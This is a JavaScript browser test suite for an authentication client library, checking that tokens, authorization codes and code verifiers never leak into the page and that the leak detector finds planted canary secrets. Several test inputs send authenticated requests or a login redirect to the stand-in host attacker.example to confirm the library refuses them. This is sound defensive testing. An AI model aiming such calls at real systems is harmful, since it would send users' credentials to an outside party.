/**
 * Checks that no token and no code verifier can be found in the page, and a code only in the places of
 * `CODE_MAY_BE_IN`. Also checks that the detector finds planted secrets.
 */
import assert from 'node:assert/strict'
import { randomBytes } from 'node:crypto'
import { booted, call, signIn, signInByRedirect } from '../../support/engines/app.mjs'
import { PLANTS, collect, watch } from '../../support/engines/leak.mjs'
import { search } from '../../support/leak.mjs'

const canary = () => ({ kind: 'canary', value: randomBytes(96).toString('base64url') })

/** Places that may contain a code, because the code reaches the page in the URL and the page passes it to the vault. */
const CODE_MAY_BE_IN = ['messages', 'performance', 'addresses']

const findLeaks = (places, ledger) =>
  search(places, ledger.secrets()).filter(
    ({ kind, place }) => !(kind === 'authorization_code' && CODE_MAY_BE_IN.includes(place)),
  )

const detector = {
  name: 'the leak test’s detector finds planted secrets in each place',
  async see({ app, visit }) {
    const { tab } = await visit()
    for (const [name, { place, plant }] of Object.entries(PLANTS)) {
      await tab.goto(`${app.site.origin}/`)
      await booted(tab)
      const planted = canary()
      await tab.evaluate(plant, planted.value)
      const found = search(await collect(tab, app), [planted]).map((finding) => finding.place)
      assert.ok(found.includes(place), `${name}: found in ${[...new Set(found)]}`)
    }
    assert.deepEqual(search(await collect(tab, app), [canary()]), [])
  },
  timeout: 120_000,
}

/** Calls the API in many ways, and stores everything that the page can read. This function runs in the page. */
async function use(api) {
  globalThis.kept ??= []
  const read = async (response) => kept.push(...[...response.headers].flat(), await response.clone().text())
  await read(await auth.fetch(`${api}me`))
  await read(await auth.fetch(`${api}upload`, { method: 'PUT', body: new Blob(['x']) }))
  await read(await auth.fetch(`${api}stream?n=3&interval=20`))
  await read(await auth.fetch(`${api}reject`))
  await read(await auth.fetch(`${api}reject-once/${Math.random()}`))
  const attempts = [
    () => auth.fetch('https://attacker.example/'),
    () => auth.fetch(`${api}redirect`),
    () => auth.fetch(`${api}me`, { headers: { Authorization: 'Bearer x' } }),
    () => auth.fetch(`${api}me`, { method: 'TRACK' }),
    async () => (await auth.fetch(`${api}broken`)).text(),
    () => auth.handleCallback(`${location.origin}/callback?code=a&state=${ownState}`),
    () => auth.login({ returnTo: 'https://attacker.example/' }),
  ]
  for (const attempt of attempts) {
    const { error } = await settle(attempt())
    kept.push(JSON.stringify(error))
  }
  kept.push(JSON.stringify(auth.session))
  return kept.length
}

const clean = {
  // claim: script-1
  name: 'no token, code or verifier in the page: storage, messages, console, cookies, addresses, globals',
  timeout: 120_000,
  async see({ app, engine, visit }) {
    const { tab } = await visit()
    const step = async (name, action) => {
      await action()
      assert.deepEqual(findLeaks(await collect(tab, app), app.ledger), [], name)
    }
    await step('before a login', () => booted(tab))
    await step('a login by redirect', () => signInByRedirect(tab))
    await step('calls and errors', async () => assert.ok((await tab.evaluate(use, app.api.url)) > 10))
    await step('a refresh', async () => {
      await app.ledger.accessTokenExpired()
      assert.equal((await call(tab, `${app.api.url}me`)).value.status, 200)
    })
    await step('logout', () => tab.evaluate(() => auth.logout()))
    await step('a login by popup', async () => {
      assert.equal((await signIn(tab)).value.claims.sub, 'alice')
      await tab.evaluate(use, app.api.url)
    })
    // Control: the search covered all kinds of secrets, and finds a planted secret.
    const kinds = new Set(app.ledger.secrets().map(({ kind }) => kind))
    for (const kind of ['access_token', 'refresh_token', 'id_token', 'authorization_code', 'code_verifier']) {
      assert.ok(kinds.has(kind), kind)
    }
    const { value } = app.ledger.newest('refresh_token')
    await tab.evaluate((token) => void (globalThis.planted = { token }), value)
    const [finding] = findLeaks(await collect(tab, app), app.ledger)
    assert.equal(finding?.kind, 'refresh_token')
    assert.ok(app.watched.messages.length > 20, `the recorder heard nothing in ${engine.name}`)
  },
}

/** @type {import('../suite.mjs').Group[]} */
export const leaks = [
  {
    name: 'leak test',
    app: { config: { inspect: true }, provider: { accessTokenSeconds: 4 } },
    prepare: watch,
    capabilities: [
      detector,
      clean,
      {
        name: 'the page’s heap is searched as well',
        see: async () => 'by `tests/browser/leak.test.mjs`',
        notAutomated: {
          firefox: 'No protocol gives a test the heap of a page in Firefox',
          webkit: 'No protocol gives a test the heap of a page in WebKitGTK',
        },
      },
    ],
  },
]
